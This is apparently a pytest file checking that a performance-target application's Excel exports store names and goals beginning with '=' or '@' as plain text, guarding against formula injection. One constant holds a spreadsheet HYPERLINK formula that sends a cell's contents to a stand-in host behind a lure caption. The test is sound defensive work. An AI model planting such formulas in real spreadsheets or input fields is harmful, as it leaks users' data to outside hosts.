"""Every Excel export writes stored text as text: a name or goal starting with = is never a live formula, and a
control character stored before imports refused them does not crash the export (formula injection, issue 17)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from perfdesk.core.db import models as m
from perfdesk.core.services import library as lib
from perfdesk.core.services import targets_io as tio

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return [f.decode() for name in zf.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(rb"<f[ >][^<]*", zf.read(name))]


def _texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.data_type == "s"}


@pytest.mark.parametrize("layout", ["flat", "official"])
def test_a_target_export_writes_names_and_goals_starting_with_equals_as_text(demo_db, tmp_path, layout) -> None:  # type: ignore[no-untyped-def]
    with demo_db.sessions() as s:
        target = s.scalars(select(m.PerformanceTarget).join(m.Project).join(m.BudgetYear)
                           .where(m.BudgetYear.year == 2025, m.PerformanceTarget.is_current)).first()
        target.annual_goal = "=1+1"
        indicator = s.scalars(select(m.TargetIndicator).where(m.TargetIndicator.target_id == target.id)).first()
        indicator.name, indicator.note = ATTACK, "备注\x07响铃"
        s.commit()
        path = tmp_path / f"{layout}.xlsx"
        tio.export_targets(s, path, year=2025, layout=layout)
    assert _formulas(path) == []
    texts = _texts(path)
    assert ATTACK in texts and "=1+1" in texts and "备注_x0007_响铃" in texts


def test_a_library_export_writes_a_name_starting_with_equals_as_text(demo_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    with demo_db.sessions() as s:
        first = s.scalars(select(m.LibraryIndicator.id)).first()
        s.execute(update(m.LibraryIndicator).where(m.LibraryIndicator.id == first)
                  .values(name=ATTACK, measurement="@SUM(1)\x0b"))
        s.commit()
        path = tmp_path / "lib.xlsx"
        lib.export_library(s, path)
    assert _formulas(path) == []
    assert ATTACK in _texts(path)
    cell = next(c for row in load_workbook(path).active.iter_rows() for c in row if c.value == ATTACK)
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
